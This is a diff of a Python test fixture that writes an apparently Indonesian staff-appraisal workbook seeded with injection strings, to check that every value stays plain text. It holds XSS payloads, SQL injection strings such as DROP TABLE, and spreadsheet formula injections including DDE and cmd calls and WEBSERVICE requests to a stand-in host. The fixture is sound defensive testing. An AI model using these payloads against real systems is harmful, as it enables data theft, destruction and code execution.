@@ -18,11 +18,11 @@ _SCRIPT = (
     "--><script>kena()</script>", "]]><script>kena()</script>", "'';!--\"<kena>=&{()}", "<script>kena()//",
     "<script\x0c>kena()</script>", "<script type=module>import('//x.id')</script>", "javascript:kena()",
     "JaVaScRiPt:kena()", "data:text/html,<script>kena()</script>", "vbscript:kena()", "';kena();//",
-    "\";kena();//", "\\';kena();//", "${kena()}", "`${kena()}`", "\\u003cscript\\u003ekena()\\u003c/script\\u003e",
+    '";kena();//', "\\';kena();//", "${kena()}", "`${kena()}`", "\\u003cscript\\u003ekena()\\u003c/script\\u003e",
 )  # fmt: skip
 _MARKUP = (
-    "<img src=x onerror=kena()>", "\"><img src=x onerror=\"kena()\">", "' onmouseover='kena()",
-    "\" onfocus=\"kena()\" autofocus=\"", "<svg onload=kena()>", "<svg><script>kena()</script></svg>",
+    "<img src=x onerror=kena()>", '"><img src=x onerror="kena()">', "' onmouseover='kena()",
+    '" onfocus="kena()" autofocus="', "<svg onload=kena()>", "<svg><script>kena()</script></svg>",
     "<iframe src=javascript:kena()></iframe>", "<iframe srcdoc='<script>kena()</script>'>", "<a href=javascript:kena()>klik</a>",
     "<body onload=kena()>", "<base href=//x.id/>", "<meta http-equiv=refresh content='0;url=//x.id'>",
     "<link rel=stylesheet href=//x.id/a.css>", "<style>*{display:none}</style>", "<style>@import '//x.id';</style>",
@@ -33,12 +33,12 @@ _MARKUP = (
     "\\22 ; } body { display: none } /*", "*/ body { display: none }", "expression(kena())",
 )  # fmt: skip
 _DATABASE = (
-    "Robert'); DROP TABLE pegawai;--", "' OR '1'='1", "\" OR \"\"=\"", "1; DELETE FROM audit", "' UNION SELECT nip FROM pegawai--",
+    "Robert'); DROP TABLE pegawai;--", "' OR '1'='1", '" OR ""="', "1; DELETE FROM audit", "' UNION SELECT nip FROM pegawai--",
     "%' LIKE '%", "\\'; VACUUM; --", "admin'--",
 )  # fmt: skip
 _FORMULA = (
-    "=1+1", "=HYPERLINK(\"http://x.id\",\"klik\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "=WEBSERVICE(\"http://x.id\")",
-    "=DDE(\"cmd\",\"/C calc\",\"x\")", "{=SUM(1)}", "=IMPORTXML(\"http://x.id\",\"//a\")", "\t=1+1", "http://x.id/?nip=1",
+    "=1+1", '=HYPERLINK("http://x.id","klik")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", '=WEBSERVICE("http://x.id")',
+    '=DDE("cmd","/C calc","x")', "{=SUM(1)}", '=IMPORTXML("http://x.id","//a")', "\t=1+1", "http://x.id/?nip=1",
     "https://x.id", "mailto:a@x.id", "file:///etc/passwd", "internal:Sheet1!A1", "external:c:/a.xlsx", "\\\\x.id\\bagi\\a.xlsx",
     "#REF!", "'=1+1", "<r><t>kaya</t></r>", "[1]Lembar!A1",
 )  # fmt: skip
@@ -58,9 +58,11 @@ _PLAIN = [*_SCRIPT, *_MARKUP, *_DATABASE, *_FORMULA, *_TEMPLATE, *_CONTROL, *_BI
 STRINGS = tuple(f"{text} k{number:03d}z" for number, text in enumerate(_PLAIN))
 MARK = re.compile(r"k(\d{3})z")
 
-UNIT = "Dinas </title><script>kena()</script> {{ 7*7 }} \"><img src=x onerror=kena()> Kota Uji"
+UNIT = 'Dinas </title><script>kena()</script> {{ 7*7 }} "><img src=x onerror=kena()> Kota Uji'
 PERIOD = "2024-Q1"
-_UNREAD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
+_UNREAD = re.compile(
+    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]"
+)
 
 
 def nip(n: int) -> str:
@@ -89,7 +91,7 @@ def sheets() -> dict[str, list[list[object]]]:
     plans, above, items, units, aspects = (field() for _ in range(5))
     proofs, feedback, notes = (field() for _ in range(3))
     unit_plans, unit_items, unit_units, reasons, answers = (field() for _ in range(5))
-    seven = [name for name in BEHAVIOUR_FIELDS.values()]
+    seven = list(BEHAVIOUR_FIELDS.values())
     return {
         "pegawai": [
             ["NIP", "Nama", "Jabatan", "Unit Kerja", "Pangkat/Gol. Ruang", "Perangkat Daerah", "NIP Atasan"],
@@ -125,7 +127,11 @@ def sheets() -> dict[str, list[list[object]]]:
 
 def write(path: Path) -> Path:
     """Write the office as one workbook whose every text is text."""
-    plain_text = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
+    plain_text = {
+        "strings_to_formulas": False,
+        "strings_to_urls": False,
+        "strings_to_numbers": False,
+    }
     with xlsxwriter.Workbook(path, plain_text) as book:
         for name, rows in sheets().items():
             sheet = book.add_worksheet(name)
